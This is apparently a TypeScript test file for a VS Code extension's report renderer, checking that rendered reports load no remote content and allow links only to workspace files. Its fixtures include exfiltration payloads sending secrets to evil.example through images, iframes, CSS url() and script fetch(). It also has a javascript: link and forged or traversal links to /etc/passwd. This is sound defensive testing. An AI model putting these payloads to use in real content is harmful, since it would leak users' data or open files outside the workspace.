import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import {
	ANSWER_END,
	ANSWER_START_FOLDED,
	renderReportHtml,
} from '../../../../src/host/inspection/reportHtml';
import {
	OPEN_REPORT_LOCATION,
	locationHref,
	parseReportLocation,
	reportLocation,
} from '../../../../src/host/inspection/reportLinks';

const SOURCE = 'https://file+.vscode-resource.vscode-cdn.net';

describe('inspection report page', () => {
	const leaks = [
		'![leak](https://evil.example/p.png?d=secret)',
		'![leak][ref]\n\n[ref]: https://evil.example/r.png?d=secret',
		'<img src="https://evil.example/i.png?d=secret">',
		'<iframe src="https://evil.example/f"></iframe>',
		'<link rel="stylesheet" href="https://evil.example/s.css">',
		'<style>body{background:url(https://evil.example/bg?d=secret)}</style>',
		'<script>fetch("https://evil.example/?d=secret")</script>',
		'[click](javascript:alert(1))',
	];

	it('loads nothing remote: no images, no raw HTML, and a CSP that forbids it anyway', () => {
		const html = renderReportHtml(
			`# Report\n\n${leaks.join('\n\n')}\n\n| a | b |\n| - | - |\n| x | y |`,
			SOURCE,
			`${SOURCE}/media/report.css`,
		);
		const body = html.slice(html.indexOf('<body>'));
		assert.ok(!/<(img|iframe|script|link|style|object|embed)\b/i.test(body), body);
		assert.ok(!/\s(src|srcset)="/i.test(body), body);
		assert.ok(!/href="javascript:/i.test(body), body);
		// The only thing the page loads is the extension's own stylesheet.
		assert.deepEqual(html.match(/<link [^>]*>/g), [
			`<link rel="stylesheet" href="${SOURCE}/media/report.css">`,
		]);
		assert.match(
			html,
			new RegExp(
				`<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src ${SOURCE.replace(/[.+]/g, '\\$&')}">`,
			),
		);
		// The words are all still there, shown as text.
		assert.match(html, /&lt;img src=&quot;<a href="https:\/\/evil\.example\/i\.png\?d=secret">/);
		assert.match(html, /<h1>Report<\/h1>/);
		assert.match(html, /<table>/);
	});
});

describe('inspection report links', () => {
	const args = (href: string) => JSON.parse(decodeURIComponent(href.split('?')[1]));
	const hrefs = (html: string) =>
		[...html.slice(html.indexOf('<body>')).matchAll(/<a href="([^"]*)"/g)].map((m) => m[1]);

	it('turns a finding inside the workspace into a link to its line, and nothing else', () => {
		const html = renderReportHtml(
			[
				`- [src/a.ts:3](${locationHref('/ws/src/a.ts', 3)})`,
				'- [outside](file:///etc/passwd#L1)',
				'- [sibling](file:///ws-other/a.ts#L2)',
				'- [dots](file:///ws/../etc/passwd#L1)',
				'- [folder itself](file:///ws#L1)',
				'- [remote host](file://evil.example/ws/a.ts#L1)',
				`- [forged](command:${OPEN_REPORT_LOCATION}?${encodeURIComponent('[{"file":"/etc/passwd","line":1}]')})`,
				'- [terminal](command:workbench.action.terminal.new)',
				'- [relative](../secret.txt)',
				'- [web](https://example.com/docs)',
			].join('\n'),
			SOURCE,
			`${SOURCE}/media/report.css`,
			['/ws'],
		);
		const links = hrefs(html);
		assert.equal(links.length, 2, links.join('\n'));
		assert.ok(links[0].startsWith(`command:${OPEN_REPORT_LOCATION}?`), links[0]);
		assert.deepEqual(args(links[0].replace(/&amp;/g, '&')), [{ file: '/ws/src/a.ts', line: 3 }]);
		assert.equal(links[1], 'https://example.com/docs');
		for (const text of [
			'outside',
			'sibling',
			'dots',
			'folder itself',
			'remote host',
			'forged',
			'terminal',
			'relative',
		]) {
			assert.match(html, new RegExp(`<li>${text}</li>`), text);
		}
	});

	it('makes no link at all without a workspace folder', () => {
		const html = renderReportHtml(`[a](${locationHref('/ws/a.ts', 1)})`, SOURCE, 'x.css', []);
		assert.deepEqual(hrefs(html), []);
	});

	it("folds zero's answer away under a summary when the findings list it already", () => {
		const html = renderReportHtml(
			`# Find bugs\n\n## Findings\n\n- one\n\n${ANSWER_START_FOLDED}\n\n## Findings\n\n1. one again\n\n${ANSWER_END}\n\n## Details\n\n- Folder: \`/ws\``,
			SOURCE,
			'x.css',
			['/ws'],
			'Find bugs \u00b7 1 Dec 20:45',
		);
		assert.match(html, /<title>Find bugs \u00b7 1 Dec 20:45<\/title>/);
		const body = html.slice(html.indexOf('<body>'));
		const findings = body.indexOf('<li>one</li>');
		const details = body.indexOf('<details class="answer">');
		const again = body.indexOf('one again');
		const meta = body.lastIndexOf('<details class="run-details">\n<summary>Details</summary>');
		assert.ok(findings >= 0 && findings < details && details < again && again < meta, body);
		// The run's facts are folded away, closed: the command's session id is read only on request.
		assert.ok(body.slice(meta).includes('<li>Folder: <code>/ws</code></li>'), body);
		assert.doesNotMatch(body, /<details class="run-details" open/);
		assert.match(body, /<summary>zero's full answer<\/summary>/);
		assert.ok(!body.includes('zero:answer'), 'the markers are not shown');
	});
});

describe('the open-location command', () => {
	it('accepts only an absolute file and a line, from whatever a link sends', () => {
		assert.deepEqual(parseReportLocation({ file: '/ws/a.ts', line: 3 }), {
			file: '/ws/a.ts',
			line: 3,
		});
		for (const bad of [
			undefined,
			null,
			'x',
			{ file: 'a.ts', line: 1 },
			{ file: '/a', line: 0 },
			{ file: '/a', line: 1.5 },
			{ file: '/a\0b', line: 1 },
			{ file: 1, line: 1 },
		]) {
			assert.equal(parseReportLocation(bad), undefined, JSON.stringify(bad));
		}
	});

	it('reads a location link back, only inside the folders', () => {
		assert.deepEqual(reportLocation(locationHref('/ws/dir with space/a#b.ts', 12), ['/ws']), {
			file: '/ws/dir with space/a#b.ts',
			line: 12,
		});
		assert.equal(reportLocation(locationHref('/elsewhere/a.ts', 1), ['/ws']), undefined);
		assert.equal(reportLocation('not a url', ['/ws']), undefined);
	});
});
